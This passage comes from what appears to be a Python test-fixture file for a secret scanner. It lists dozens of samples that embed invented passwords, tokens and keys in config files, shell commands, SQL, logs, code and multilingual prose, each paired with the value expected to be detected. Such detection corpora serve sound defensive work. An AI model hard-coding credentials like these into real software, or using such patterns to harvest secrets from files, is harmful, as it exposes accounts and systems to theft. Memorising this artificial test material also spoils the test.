        "662cb4049b09f1173d55e41735078f94c030d724eafc9e2e344acb0c17e4",
        (
            (
                "96d2"
                "662cb4049b09f1173d55e41735078f94c030d724eafc9e2e344acb0c17e4"
            ),
        ),
    ),
    SecretSample(
        "ini",
        "app.ini",
        "[database]\n"
        "user = root\n"
        "password = 0Zm?fcNS"
        "C+!0djZ",
        (
            (
                "0Zm?fcNS"
                "C+!0djZ"
            ),
        ),
    ),
    SecretSample(
        "ini-colon",
        "odoo.conf",
        "admin_passwd: sw71"
        "aHH1BIt9L6x4K27h",
        (
            (
                "sw71"
                "aHH1BIt9L6x4K27h"
            ),
        ),
    ),
    SecretSample(
        "yaml",
        "config.yml",
        "smtp:\n"
        "  username: robot\n"
        '  password: "Byo@c-eJ'
        'iT8mov_PY!@I6F"',
        (
            (
                "Byo@c-eJ"
                "iT8mov_PY!@I6F"
            ),
        ),
    ),
    SecretSample(
        "yaml-flow",
        "config.yml",
        "db: {user: app, password: HWDF"
        "9kzvDmTvnEXPt3Ub7, host: pg}",
        (
            (
                "HWDF"
                "9kzvDmTvnEXPt3Ub7"
            ),
        ),
    ),
    SecretSample(
        "yaml-block",
        "config.yml",
        "api_secret: >-\n"
        "  I7WW"
        "bPWWIf9EGgHnD54b9VxyxPCauJTFZPbrI798",
        (
            (
                "I7WW"
                "bPWWIf9EGgHnD54b9VxyxPCauJTFZPbrI798"
            ),
        ),
    ),
    SecretSample(
        "yaml-list",
        "users.yml",
        "- {name: ops, passwd: 'Kw-.XUX%"
        "Y3r26yu'}",
        (
            (
                "Kw-.XUX%"
                "Y3r26yu"
            ),
        ),
    ),
    SecretSample(
        "properties",
        "app.properties",
        "keystore.password=BE7C"
        "2c0BNnV0DGzGCdHVIZNgZfvM\n"
        "truststore.password: FNF9"
        "rkhnT2xDVEHmwR8dXYS",
        (
            (
                "BE7C"
                "2c0BNnV0DGzGCdHVIZNgZfvM"
            ),
            (
                "FNF9"
                "rkhnT2xDVEHmwR8dXYS"
            ),
        ),
    ),
    SecretSample(
        "properties-camel",
        "gradle.properties",
        "signingKeyPassword=v9Fi"
        "fSQ9aolfr2PJH9TzZmEyiA",
        (
            (
                "v9Fi"
                "fSQ9aolfr2PJH9TzZmEyiA"
            ),
        ),
    ),
    SecretSample(
        "toml",
        "config.toml",
        "[auth]\n"
        'hmac_secret = "AdGS'
        'AANCC5OiOge4N84anYxQ0JoiVgVt8uZY9gA+1f3r"',
        (
            (
                "AdGS"
                "AANCC5OiOge4N84anYxQ0JoiVgVt8uZY9gA+1f3r"
            ),
        ),
    ),
    SecretSample(
        "toml-inline",
        "pyproject.toml",
        'repo = { user = "ci", password = "WJBR'
        'oc0mvJIgVIEi5VrHIxO" }',
        (
            (
                "WJBR"
                "oc0mvJIgVIEi5VrHIxO"
            ),
        ),
    ),
    SecretSample(
        "xml-element",
        "server.xml",
        "<password>ZHimJy6."
        "-0r+Or7o1xA#A</password>",
        (
            (
                "ZHimJy6."
                "-0r+Or7o1xA#A"
            ),
        ),
    ),
    SecretSample(
        "xml-attr",
        "server.xml",
        '<Connector port="8443" keystorePass="qoiz'
        'Mn1xmPd5sAaLQ9PkF" keystoreFile="k.jks"/>',
        (
            (
                "qoiz"
                "Mn1xmPd5sAaLQ9PkF"
            ),
        ),
    ),
    SecretSample(
        "xml-key-value",
        "web.config",
        '<add key="ApiSecret" value="u2jV'
        'oKYZ0V8Tc9izHjc23hiAGznbEbhs"/>',
        (
            (
                "u2jV"
                "oKYZ0V8Tc9izHjc23hiAGznbEbhs"
            ),
        ),
    ),
    SecretSample(
        "plist",
        "Info.plist",
        "<key>ClientSecret</key>\n"
        "<string>q9Bv"
        "QiSw4lWVPS9f2afLXHCMTXFQi1m5</string>",
        (
            (
                "q9Bv"
                "QiSw4lWVPS9f2afLXHCMTXFQi1m5"
            ),
        ),
    ),
    SecretSample(
        "json",
        "config.json",
        '{"db": {"user": "app", "password": "UHb%+gae'
        'hn?XgiYpHo1"}}',
        (
            (
                "UHb%+gae"
                "hn?XgiYpHo1"
            ),
        ),
    ),
    SecretSample(
        "json-name-value",
        "params.json",
        '{"name": "DB_PASSWORD", "value": "MLer'
        'JU5gIHYvv46eqOCXr2u4kmWm"}',
        (
            (
                "MLer"
                "JU5gIHYvv46eqOCXr2u4kmWm"
            ),
        ),
    ),
    SecretSample(
        "json-escaped",
        "step.json",
        '{"cmd": "echo \\"password=\\\\\\"y4h0'
        'LHuVcezHP51lWPhgKh7eWkX\\\\\\"\\""}',
        (
            (
                "y4h0"
                "LHuVcezHP51lWPhgKh7eWkX"
            ),
        ),
    ),
    SecretSample(
        "hcl",
        "vars.hcl",
        'secret_key = "AeKw'
        'k04mWZFxaVkXkWKvfwSQ7ijva8mMzImpjbIm"',
        (
            (
                "AeKw"
                "k04mWZFxaVkXkWKvfwSQ7ijva8mMzImpjbIm"
            ),
        ),
    ),
    SecretSample(
        "tfvars",
        "prod.tfvars",
        'db_admin_password = "F+e*6cJQ'
        'mlke021mY3^uvg"',
        (
            (
                "F+e*6cJQ"
                "mlke021mY3^uvg"
            ),
        ),
    ),
    SecretSample(
        "tfvars-map",
        "prod.tfvars",
        "secrets = {\n"
        '  jwt_key = "OoZ0'
        '4aBc6DgV2d1GVP9Jbn4utcPSRJw4GNAw8ENq"\n'
        "}",
        (
            (
                "OoZ0"
                "4aBc6DgV2d1GVP9Jbn4utcPSRJw4GNAw8ENq"
            ),
        ),
    ),
    SecretSample(
        "tfstate",
        "terraform.tfstate",
        '"attributes": {"engine": "postgres", "password": "OcyO'
        '2NybYXMyGDkMXJX46lRHLC", "username": "root"}',
        (
            (
                "OcyO"
                "2NybYXMyGDkMXJX46lRHLC"
            ),
        ),
    ),
    SecretSample(
        "helm-values",
        "values.yaml",
        "postgresql:\n"
        "  auth:\n"
        "    postgresPassword: h0Vj"
        "A9aVI6ckrUT7Sks",
        (
            (
                "h0Vj"
                "A9aVI6ckrUT7Sks"
            ),
        ),
    ),
    SecretSample(
        "helm-set",
        "install.sh",
        "helm upgrade app ./c --set auth.rootPassword=ePNL"
        "aW1p0Mxm1FJTj --set replicas=2",
        (
            (
                "ePNL"
                "aW1p0Mxm1FJTj"
            ),
        ),
    ),
    SecretSample(
        "github-env",
        ".github/workflows/ci.yml",
        "env:\n"
        "  DEPLOY_KEY_PASSPHRASE: thaR"
        "VjF9STqFu3wW",
        (
            (
                "thaR"
                "VjF9STqFu3wW"
            ),
        ),
    ),
    SecretSample(
        "github-env-inline",
        ".github/workflows/test.yml",
        "    - run: PGPASSWORD=Bim4"
        "co0BqHbGnFwobBcLQb psql -h localhost -f seed.sql",
        (
            (
                "Bim4"
                "co0BqHbGnFwobBcLQb"
            ),
        ),
    ),
    SecretSample(
        "gitlab-ci-vars",
        ".gitlab-ci.yml",
        "variables:\n"
        '  SONAR_PASSWORD: "vjdj'
        'OCy5LndZ97S9Vli522iaXGHC"',
        (
            (
                "vjdj"
                "OCy5LndZ97S9Vli522iaXGHC"
            ),
        ),
    ),
    SecretSample(
        "jenkins",
        "Jenkinsfile",
        "environment { NEXUS_PASS = 'uxag"
        "yD1bDCWspmUbENuHIDMjVX0r' }",
        (
            (
                "uxag"
                "yD1bDCWspmUbENuHIDMjVX0r"
            ),
        ),
    ),
    SecretSample(
        "ansible-vars",
        "group_vars/all.yml",
        "ansible_become_pass: 7peo?Bo."
        "w.@Z*rr-.^e0?p",
        (
            (
                "7peo?Bo."
                "w.@Z*rr-.^e0?p"
            ),
        ),
    ),
    SecretSample(
        "ansible-hosts",
        "hosts.ini",
        "web1 ansible_user=root ansible_ssh_pass=iWKE"
        "XTOorkIZ2YxN1kWBax7iNmR",
        (
            (
                "iWKE"
                "XTOorkIZ2YxN1kWBax7iNmR"
            ),
        ),
    ),
    SecretSample(
        "ansible-vault",
        "vault.yml",
        "vault_api_token: Z0tJ"
        "L1yRvqUfBIjgnwGtfBCkcDNGb4wZCyDeCb3B",
        (
            (
                "Z0tJ"
                "L1yRvqUfBIjgnwGtfBCkcDNGb4wZCyDeCb3B"
            ),
        ),
    ),
    SecretSample(
        "chef",
        "data_bag.json",
        '{"id": "db", "root_password": "CTtS'
        'V8r7xyO2EJiYiMc6IMf6"}',
        (
            (
                "CTtS"
                "V8r7xyO2EJiYiMc6IMf6"
            ),
        ),
    ),
    SecretSample(
        "puppet",
        "site.pp",
        "class { 'mysql::server': root_password => 'dtFT"
        "qkFAugrW48w2X6MIYaMOyKB' }",
        (
            (
                "dtFT"
                "qkFAugrW48w2X6MIYaMOyKB"
            ),
        ),
    ),
    SecretSample(
        "cloud-init",
        "user-data.yaml",
        "chpasswd:\n"
        "  list: |\n"
        "    root:ZBWW"
        "pGeSbY5P8cjgDMTbbbswb1G",
        (
            (
                "ZBWW"
                "pGeSbY5P8cjgDMTbbbswb1G"
            ),
        ),
    ),
    SecretSample(
        "de-passwort",
        "zugang.yml",
        "benutzer: wartung\n"
        "passwort: uYvV"
        "YB6ano4azhFs64RATdndlL",
        (
            (
                "uYvV"
                "YB6ano4azhFs64RATdndlL"
            ),
        ),
    ),
    SecretSample(
        "de-kennwort",
        "zugang.ini",
        "Kennwort=qN?Giws?"
        "V^v8hrCiDlK9",
        (
            (
                "qN?Giws?"
                "V^v8hrCiDlK9"
            ),
        ),
    ),
    SecretSample(
        "de-geheimnis",
        "dienst.json",
        '{"geheimnis": "iGwF'
        '9eRHxiuVwve7zgliNAUaVtdXdTZQ"}',
        (
            (
                "iGwF"
                "9eRHxiuVwve7zgliNAUaVtdXdTZQ"
            ),
        ),
    ),
    SecretSample(
        "de-schluessel",
        "dienst.properties",
        "api.schluessel=I8Yy"
        "IcHvBO6dnNS4VK5wswnU14x9abGd",
        (
            (
                "I8Yy"
                "IcHvBO6dnNS4VK5wswnU14x9abGd"
            ),
        ),
    ),
    SecretSample(
        "de-zugangsdaten-prose",
        "BETRIEB.md",
        "Das Passwort für den Admin lautet eo32"
        "RPmNHum7QbEm.",
        (
            (
                "eo32"
                "RPmNHum7QbEm"
            ),
        ),
    ),
    SecretSample(
        "fr-mot-de-passe",
        "config.yml",
        "mot_de_passe: T74o"
        "BNfz4yXGk00zt7nr77Z8B",
        (
            (
                "T74o"
                "BNfz4yXGk00zt7nr77Z8B"
            ),
        ),
    ),
    SecretSample(
        "fr-mdp",
        "base.php",
        '$mdp = "gHJ9'
        'bnYe5Gca3VukwwYeU1e7";',
        (
            (
                "gHJ9"
                "bnYe5Gca3VukwwYeU1e7"
            ),
        ),
    ),
    SecretSample(
        "fr-prose",
        "LISEZMOI.md",
        "Mot de passe : jXKH"
        "Z4nyIQCuM1s2T5n",
        (
            (
                "jXKH"
                "Z4nyIQCuM1s2T5n"
            ),
        ),
    ),
    SecretSample(
        "es-contrasena",
        "config.py",
        'contrasena = "CKn6'
        'fSUSTKABMRcJaweoUStQ0Z"',
        (
            (
                "CKn6"
                "fSUSTKABMRcJaweoUStQ0Z"
            ),
        ),
    ),
    SecretSample(
        "es-contrasena-tilde",
        "config.yml",
        "contraseña: Iuw7"
        "phV1N4xGUVwyCbIsMGj8QvWG",
        (
            (
                "Iuw7"
                "phV1N4xGUVwyCbIsMGj8QvWG"
            ),
        ),
    ),
    SecretSample(
        "es-clave",
        "db.ini",
        "clave = gX7X"
        "PlZTd58UbLeArquIb1IUxygg",
        (
            (
                "gX7X"
                "PlZTd58UbLeArquIb1IUxygg"
            ),
        ),
    ),
    SecretSample(
        "es-prose",
        "LEEME.md",
        "La contraseña del servidor es MXHB"
        "J6tXKFpY95bw0",
        (
            (
                "MXHB"
                "J6tXKFpY95bw0"
            ),
        ),
    ),
    SecretSample(
        "pt-senha",
        "banco.env",
        "SENHA_BANCO=rM06"
        "3APrzGCYGOAsvsvCR0z",
        (
            (
                "rM06"
                "3APrzGCYGOAsvsvCR0z"
            ),
        ),
    ),
    SecretSample(
        "pt-senha",
        "config.json",
        '{"usuario": "app", "senha": "JMRD'
        '8Ou86lvJr0FaFtZcp"}',
        (
            (
                "JMRD"
                "8Ou86lvJr0FaFtZcp"
            ),
        ),
    ),
    SecretSample(
        "it-parola",
        "config.yml",
        "parola_chiave: aZ7q"
        "mjWnFj0C9Tkn",
        (
            (
                "aZ7q"
                "mjWnFj0C9Tkn"
            ),
        ),
    ),
    SecretSample(
        "it-parola-dordine",
        "app.properties",
        "parola.ordine=jpzT"
        "7ZEFayR7BwoFzDg",
        (
            (
                "jpzT"
                "7ZEFayR7BwoFzDg"
            ),
        ),
    ),
    SecretSample(
        "pl-haslo",
        "baza.ini",
        "haslo=CQeJ"
        "gtcwSRULOV0Sc0T",
        (
            (
                "CQeJ"
                "gtcwSRULOV0Sc0T"
            ),
        ),
    ),
    SecretSample(
        "pl-haslo-diacritic",
        "baza.yml",
        "hasło: TERs"
        "j7MgVO8ItvoameJ7nju",
        (
            (
                "TERs"
                "j7MgVO8ItvoameJ7nju"
            ),
        ),
    ),
    SecretSample(
        "ru-parol",
        "db.yml",
        "пароль: yYtm"
        "EHxCwZ1eVXgwS1QH4LOuWk",
        (
            (
                "yYtm"
                "EHxCwZ1eVXgwS1QH4LOuWk"
            ),
        ),
    ),
    SecretSample(
        "ru-parol-latin",
        "db.py",
        'parol = "G3Z8'
        '2xMTuqv0bWbSw"',
        (
            (
                "G3Z8"
                "2xMTuqv0bWbSw"
            ),
        ),
    ),
    SecretSample(
        "zh-mima",
        "配置.yml",
        "密码: yDZt"
        "kIOwgMerDh04E1",
        (
            (
                "yDZt"
                "kIOwgMerDh04E1"
            ),
        ),
    ),
    SecretSample(
        "zh-mima-prose",
        "说明.md",
        "管理员密码是：Yne9"
        "WumZT1zcBp7x3pbYE",
        (
            (
                "Yne9"
                "WumZT1zcBp7x3pbYE"
            ),
        ),
    ),
    SecretSample(
        "ja-password",
        "設定.ini",
        "パスワード=GvHB"
        "RWvNjd7SW25Xxp8Lii",
        (
            (
                "GvHB"
                "RWvNjd7SW25Xxp8Lii"
            ),
        ),
    ),
    SecretSample(
        "ja-anshou",
        "メモ.md",
        "暗証番号: rK9G"
        "987Yrw0IIunqhnuOD9Nu",
        (
            (
                "rK9G"
                "987Yrw0IIunqhnuOD9Nu"
            ),
        ),
    ),
    SecretSample(
        "ko-password",
        "config.yml",
        "비밀번호: JGfM"
        "BNtG95V5NrDv4eZAQEvZc7fU",
        (
            (
                "JGfM"
                "BNtG95V5NrDv4eZAQEvZc7fU"
            ),
        ),
    ),
    SecretSample(
        "nl-wachtwoord",
        "db.env",
        "WACHTWOORD=ra6P"
        "57xTOLVZp3vauLyafVUom8Ie",
        (
            (
                "ra6P"
                "57xTOLVZp3vauLyafVUom8Ie"
            ),
        ),
    ),
    SecretSample(
        "sv-losenord",
        "db.yml",
        "lösenord: y7xi"
        "a4Y8EzFjB7Z9KeU23LjZq1",
        (
            (
                "y7xi"
                "a4Y8EzFjB7Z9KeU23LjZq1"
            ),
        ),
    ),
    SecretSample(
        "tr-sifre",
        "ayar.ini",
        "sifre=cuYx"
        "gRnFU9AXUTE7H3",
        (
            (
                "cuYx"
                "gRnFU9AXUTE7H3"
            ),
        ),
    ),
    SecretSample(
        "cs-heslo",
        "nastaveni.yml",
        "heslo: L7RQ"
        "BuU99HcIvtCphd",
        (
            (
                "L7RQ"
                "BuU99HcIvtCphd"
            ),
        ),
    ),
    SecretSample(
        "prose-readme",
        "README.md",
        "The admin password is Ag0c"
        "UwrINUEXuFvmSzUU3gW, please do not share it.",
        (
            (
                "Ag0c"
                "UwrINUEXuFvmSzUU3gW"
            ),
        ),
    ),
    SecretSample(
        "prose-readme",
        "docs/setup.md",
        "Log in as `root` with password `a%+y#-c-"
        "oPGPF0`.",
        (
            (
                "a%+y#-c-"
                "oPGPF0"
            ),
        ),
    ),
    SecretSample(
        "prose-ticket",
        "NOTES.txt",
        "user: deploy / pass: Bp4p"
        "oHMX5GUxnYk9",
        (
            (
                "Bp4p"
                "oHMX5GUxnYk9"
            ),
        ),
    ),
    SecretSample(
        "prose-userpass",
        "HANDOVER.md",
        "Credentials for staging: ops / T28v"
        "Xpw3PUzyZPfa9zFlU3Y7",
        (
            (
                "T28v"
                "Xpw3PUzyZPfa9zFlU3Y7"
            ),
        ),
    ),
    SecretSample(
        "prose-comment",
        "main.c",
        "/* TODO remove: db pw = LV5s"
        "2rWkuhni4EK9ttL5oe */",
        (
            (
                "LV5s"
                "2rWkuhni4EK9ttL5oe"
            ),
        ),
    ),
    SecretSample(
        "prose-comment",
        "app.py",
        "# old key was ghp_G2D9"
        "ysiMmCDh2g7a1EyqnL7Qipfect3NTGhA, rotated in March",
        (
            (
                "ghp_G2D9"
                "ysiMmCDh2g7a1EyqnL7Qipfect3NTGhA"
            ),
        ),
    ),
    SecretSample(
        "prose-mail",
        "mail.eml",
        "Your temporary password: Qc0T"
        "kat0xFKrbA5tzjsIwdM",
        (
            (
                "Qc0T"
                "kat0xFKrbA5tzjsIwdM"
            ),
        ),
    ),
    SecretSample(
        "cli-password",
        "deploy.sh",
        "./admin --user root --password=rRlg"
        "CjBv5cRZsW4K0RTx",
        (
            (
                "rRlg"
                "CjBv5cRZsW4K0RTx"
            ),
        ),
    ),
    SecretSample(
        "cli-password-space",
        "deploy.sh",
        "./admin --user root --password j6X1"
        "WbiDdsCkYAEzCRF",
        (
            (
                "j6X1"
                "WbiDdsCkYAEzCRF"
            ),
        ),
    ),
    SecretSample(
        "cli-mysql-p",
        "backup.sh",
        "mysqldump -u root -pTkD2"
        "uszZRb9Lanxhne1Qa9xJ1MDG shop > shop.sql",
        (
            (
                "TkD2"
                "uszZRb9Lanxhne1Qa9xJ1MDG"
            ),
        ),
    ),
    SecretSample(
        "cli-sshpass",
        "sync.sh",
        "sshpass -p 'Q^mnKg4I"
        "+sfzgB_CUiA' rsync -a dist/ web@10.0.0.3:/srv",
        (
            (
                "Q^mnKg4I"
                "+sfzgB_CUiA"
            ),
        ),
    ),
    SecretSample(
        "cli-curl-u",
        "pull.sh",
        "curl -fsSL -u deploy:I8ma"
        "PTFwKeiuhZbr4VZeP6wA1P7M https://repo.bazansil.io/a.tgz",
        (
            (
                "I8ma"
                "PTFwKeiuhZbr4VZeP6wA1P7M"
            ),
        ),
    ),
    SecretSample(
        "cli-redis-a",
        "flush.sh",
        "redis-cli -h cache -a WSo6"
        "OxFopFFZ91Wcf FLUSHDB",
        (
            (
                "WSo6"
                "OxFopFFZ91Wcf"
            ),
        ),
    ),
    SecretSample(
        "cli-openssl",
        "enc.sh",
        "openssl aes-256-cbc -d -in s.enc -out s -k F08w"
        "YXs0Ec7yZdPCR",
        (
            (
                "F08w"
                "YXs0Ec7yZdPCR"
            ),
        ),
    ),
    SecretSample(
        "cli-openssl-pass",
        "enc.sh",
        "openssl rsa -in k.pem -passin pass:IDYW"
        "Gs5CUXxlnIEguXVo67xZwva -out k.out",
        (
            (
                "IDYW"
                "Gs5CUXxlnIEguXVo67xZwva"
            ),
        ),
    ),
    SecretSample(
        "cli-zip",
        "pack.sh",
        "zip -P K7tZ"
        "dj4exX88W12708xJOXcH -r out.zip data",
        (
            (
                "K7tZ"
                "dj4exX88W12708xJOXcH"
            ),
        ),
    ),
    SecretSample(
        "cli-7z",
        "pack.bat",
        "7z a -pNmjh"
        "S46lkeuHpxoxaVA out.7z data",
        (
            (
                "Nmjh"
                "S46lkeuHpxoxaVA"
            ),
        ),
    ),
    SecretSample(
        "cli-keytool",
        "ks.sh",
        "keytool -genkeypair -alias app -storepass u7Zj"
        "mplurghCxdIGiFW5LU -keypass Gihs"
        "E9Y9EYKEqGBH7Q",
        (
            (
                "u7Zj"
                "mplurghCxdIGiFW5LU"
            ),
            (
                "Gihs"
                "E9Y9EYKEqGBH7Q"
            ),
        ),
    ),
    SecretSample(
        "cli-ldap",
        "ldap.sh",
        "ldapsearch -D cn=admin,dc=corp -w W3Im"
        "1mnUGLQzdVRxuSsyQY3 -b dc=corp",
        (
            (
                "W3Im"
                "1mnUGLQzdVRxuSsyQY3"
            ),
        ),
    ),
    SecretSample(
        "cli-net-use",
        "map.bat",
        "net use Z: \\\\fs01\\data qZ9E"
        "pv0DjIqcYlHzMAIz /user:CORP\\svc",
        (
            (
                "qZ9E"
                "pv0DjIqcYlHzMAIz"
            ),
        ),
    ),
    SecretSample(
        "cli-htpasswd",
        "user.sh",
        "htpasswd -bB .htpasswd admin sGCL"
        "PWh3dIyu5ewHj7",
        (
            (
                "sGCL"
                "PWh3dIyu5ewHj7"
            ),
        ),
    ),
    SecretSample(
        "cli-smbclient",
        "smb.sh",
        "smbclient //fs01/share -U 'svc%sxIN"
        "37uQRf2BwzJ9XjBqFJx'",
        (
            (
                "sxIN"
                "37uQRf2BwzJ9XjBqFJx"
            ),
        ),
    ),
    SecretSample(
        "cli-mongo",
        "dump.sh",
        "mongodump --host m1 -u root -p PI9b"
        "4MJwvnrCQygIqsuLXCWjPH --authenticationDatabase admin",
        (
            (
                "PI9b"
                "4MJwvnrCQygIqsuLXCWjPH"
            ),
        ),
    ),
    SecretSample(
        "cli-rabbit",
        "mq.sh",
        "rabbitmqctl add_user worker S10l"
        "yCOyBgLgkWowx8k5",
        (
            (
                "S10l"
                "yCOyBgLgkWowx8k5"
            ),
        ),
    ),
    SecretSample(
        "cli-chpasswd",
        "init.sh",
        "echo 'deploy:u1Ri"
        "6mwxt9Q6X1O7' | chpasswd",
        (
            (
                "u1Ri"
                "6mwxt9Q6X1O7"
            ),
        ),
    ),
    SecretSample(
        "cli-wget",
        "get.sh",
        "wget --http-user=ci --http-password=x9Iw"
        "s8xpoBo50kdYxKRjir https://n.fenprafe.io/x",
        (
            (
                "x9Iw"
                "s8xpoBo50kdYxKRjir"
            ),
        ),
    ),
    SecretSample(
        "cli-docker-env",
        "run.sh",
        "docker run -d -e MYSQL_ROOT_PASSWORD=bHSt"
        "ZT15DSZosA8oXWk mysql:8",
        (
            (
                "bHSt"
                "ZT15DSZosA8oXWk"
            ),
        ),
    ),
    SecretSample(
        "powershell-secure",
        "setup.ps1",
        '$pw = ConvertTo-SecureString "ro7w.0B.'
        'Mxkj%6" -AsPlainText -Force',
        (
            (
                "ro7w.0B."
                "Mxkj%6"
            ),
        ),
    ),
    SecretSample(
        "batch-set",
        "setup.bat",
        "set DB_PASSWORD=B2J1"
        "zJbm5t0sMpao",
        (
            (
                "B2J1"
                "zJbm5t0sMpao"
            ),
        ),
    ),
    SecretSample(
        "log-line",
        "app.log",
        "2024-05-02 10:11:12 INFO login attempt user=admin password=Ns25"
        "iMO7CISXkrzuvX ip=10.0.0.7",
        (
            (
                "Ns25"
                "iMO7CISXkrzuvX"
            ),
        ),
    ),
    SecretSample(
        "log-line-url",
        "access.log",
        '10.0.0.7 - - [02/May/2024] "GET /api?api_key=J4ku'
        'lCLBq5Q7yEYcnufCCM83hXLw0bil&page=2 HTTP/1.1" 200',
        (
            (
                "J4ku"
                "lCLBq5Q7yEYcnufCCM83hXLw0bil"
            ),
        ),
    ),
    SecretSample(
        "log-line-dict",
        "worker.log",
        "DEBUG config={'user': 'app', 'secret_key': 'h7XM"
        "79USVQLrODiVT5g5bFDHpkaeEzev', 'debug': False}",
        (
            (
                "h7XM"
                "79USVQLrODiVT5g5bFDHpkaeEzev"
            ),
        ),
    ),
    SecretSample(
        "log-json",
        "app.jsonl",
        '{"level":"debug","msg":"auth","token":"IWLX'
        'qf5VeQ9wcAgKJoBIUbgZLIWrZtbyKXJDWXDx"}',
        (
            (
                "IWLX"
                "qf5VeQ9wcAgKJoBIUbgZLIWrZtbyKXJDWXDx"
            ),
        ),
    ),
    SecretSample(
        "csv",
        "users.csv",
        "username,password,role\n"
        "svc_backup,XKfq"
        "nXJX7rSJcw9WC4B35Wd8UXw,admin",
        (
            (
                "XKfq"
                "nXJX7rSJcw9WC4B35Wd8UXw"
            ),
        ),
    ),
    SecretSample(
        "csv-semicolon",
        "konten.csv",
        "name;passwort;mail\n"
        "wartung;ngDR"
        "XUZCnqXEFHnxF2Nwa7b;w@gofibame.de",
        (
            (
                "ngDR"
                "XUZCnqXEFHnxF2Nwa7b"
            ),
        ),
    ),
    SecretSample(
        "markdown-table",
        "ACCESS.md",
        "| System | User | Password |\n"
        "|--------|------|----------|\n"
        "| Jira   | ops  | YCsh"
        "oivUwNIdJ35WPXs8AGJ |",
        (
            (
                "YCsh"
                "oivUwNIdJ35WPXs8AGJ"
            ),
        ),
    ),
    SecretSample(
        "rst-table",
        "access.rst",
        "======  ========================\n"
        "User    Password\n"
        "======  ========================\n"
        "root    jmcJ"
        "1UNJPYsyKiwl2MSR2bVdDow3\n"
        "======  ========================",
        (
            (
                "jmcJ"
                "1UNJPYsyKiwl2MSR2bVdDow3"
            ),
        ),
    ),
    SecretSample(
        "sql-identified-by",
        "grants.sql",
        "CREATE USER 'app'@'%' IDENTIFIED BY 'rVqYiZpb"
        "k#r0#t_CMw-bgB';",
        (
            (
                "rVqYiZpb"
                "k#r0#t_CMw-bgB"
            ),
        ),
    ),
    SecretSample(
        "sql-create-role",
        "init.sql",
        "CREATE ROLE app LOGIN PASSWORD 'vDbq"
        "CMIa8OxwY0od40mb';",
        (
            (
                "vDbq"
                "CMIa8OxwY0od40mb"
            ),
        ),
    ),
    SecretSample(
        "sql-alter-oracle",
        "ora.sql",
        'ALTER USER scott IDENTIFIED BY "iVa8'
        'SJ3sVf2lIaCaSQtV";',
        (
            (
                "iVa8"
                "SJ3sVf2lIaCaSQtV"
            ),
        ),
    ),
    SecretSample(
        "sql-mssql-login",
        "login.sql",
        "CREATE LOGIN [svc] WITH PASSWORD = N'qn-4f1Nr"
        "Wm+4y*IS@pNq', CHECK_POLICY = OFF;",
        (
            (
                "qn-4f1Nr"
                "Wm+4y*IS@pNq"
            ),
        ),
    ),
    SecretSample(
        "sql-insert",
        "seed.sql",
        "INSERT INTO users (login, password_hash) VALUES ('root', '$2b$12$HCXo"
        "9/ssvKBZhWifXmvVcB7EeMu2BcGkFkESsQUL7ygYob88aHYKa');",
        (
            (
                "$2b$12$HCXo"
                "9/ssvKBZhWifXmvVcB7EeMu2BcGkFkESsQUL7ygYob88aHYKa"
            ),
        ),
    ),
    SecretSample(
        "sql-insert-plain",
        "seed.sql",
        "INSERT INTO settings (name, value) VALUES ('smtp_password', 'ZVMu"
        "sl4dDerCE30z458jV');",
        (
            (
                "ZVMu"
                "sl4dDerCE30z458jV"
            ),
        ),
    ),
    SecretSample(
        "sql-set-password",
        "fix.sql",
        "SET PASSWORD FOR 'root'@'localhost' = PASSWORD('NXXe"
        "FkS7q0RHBRhUN');",
        (
            (
                "NXXe"
                "FkS7q0RHBRhUN"
            ),
        ),
    ),
    SecretSample(
        "sql-replication",
        "rep.sql",
        "CHANGE MASTER TO MASTER_HOST='db1', MASTER_USER='rep', MASTER_PASSWORD='j4PP"
        "0aDkt2xWpRJf93Ga';",
        (
            (
                "j4PP"
                "0aDkt2xWpRJf93Ga"
            ),
        ),
    ),
    SecretSample(
        "java-literal",
        "Db.java",
        'private static final String DB_PASSWORD = "9Htf!DvD'
        'ut%pTf";',
        (
            (
                "9Htf!DvD"
                "ut%pTf"
            ),
        ),
    ),
    SecretSample(
        "java-positional",
        "Db.java",
        'DriverManager.getConnection(url, "app", "bR6n'
        'snt5zxr05UOvDXe1");',
        (
            (
                "bR6n"
                "snt5zxr05UOvDXe1"
            ),
        ),
    ),
    SecretSample(
        "go-literal",
        "db.go",
        'const jwtSecret = "II02'
        'NSwh6D9i29tf37jibZg5ffET5k4CJbkc6RJa"',
        (
            (
                "II02"
                "NSwh6D9i29tf37jibZg5ffET5k4CJbkc6RJa"
            ),
        ),
    ),
    SecretSample(
        "go-struct",
        "db.go",
        'cfg := Config{User: "app", Password: "I2Jc'
        'mWAI7ztHtHzFwIx7D2zzi"}',
        (
            (
                "I2Jc"
                "mWAI7ztHtHzFwIx7D2zzi"
            ),
        ),
    ),
    SecretSample(
        "csharp-literal",
        "Db.cs",
        'private const string ApiSecret = "u4s4'
        'zxDFczQ9okZZiEIfPJLClVJsrQyER2hQfYZY";',
        (
            (
                "u4s4"
                "zxDFczQ9okZZiEIfPJLClVJsrQyER2hQfYZY"
            ),
        ),
    ),
    SecretSample(
        "csharp-networkcred",
        "Mail.cs",
        'client.Credentials = new NetworkCredential("robot", "TqKW'
        'gpQTkJEwLQIaSy0wCzJufYv4");',
        (
            (
                "TqKW"
                "gpQTkJEwLQIaSy0wCzJufYv4"
            ),
        ),
    ),
    SecretSample(
        "rust-literal",
        "db.rs",
        'const SIGNING_KEY: &str = "f878'
        'ad06c43867fd145f40f416661c73e29ee0fac6b40a808dd2e4c8fd56ab0f";',
        (
            (
                "f878"
                "ad06c43867fd145f40f416661c73e29ee0fac6b40a808dd2e4c8fd56ab0f"
            ),
        ),
    ),
    SecretSample(
        "rust-bytes",
        "db.rs",
        'static SECRET: &[u8] = b"a1DQ'
        'S5nlsw8dmcrs1e1jkHmU23m8C2uj";',
        (
            (
                "a1DQ"
                "S5nlsw8dmcrs1e1jkHmU23m8C2uj"
            ),
        ),
    ),
    SecretSample(
        "python-kwarg",
        "db.py",
        'conn = psycopg2.connect(host="pg", user="app", password="vnI.z!_w'
        'gJLv#a_x7!-D?N")',
        (
            (
                "vnI.z!_w"
                "gJLv#a_x7!-D?N"
            ),
        ),
    ),
    SecretSample(
        "python-concat",
        "tok.py",
        'TOKEN = "aBGv'
        'r9cOC4seetfMBNgv" + "vioo'
        '7qtXIEVglRIcz2xy"',
        (
            (
                "aBGv"
                "r9cOC4seetfMBNgv"
            ),
            (
                "vioo"
                "7qtXIEVglRIcz2xy"
            ),
        ),
    ),
    SecretSample(
        "python-dict",
        "conf.py",
        'DATABASES = {"default": {"USER": "app", "PASSWORD": "O5UI-@lZ'
        '?2%.ETZmt@D#6"}}',
        (
            (
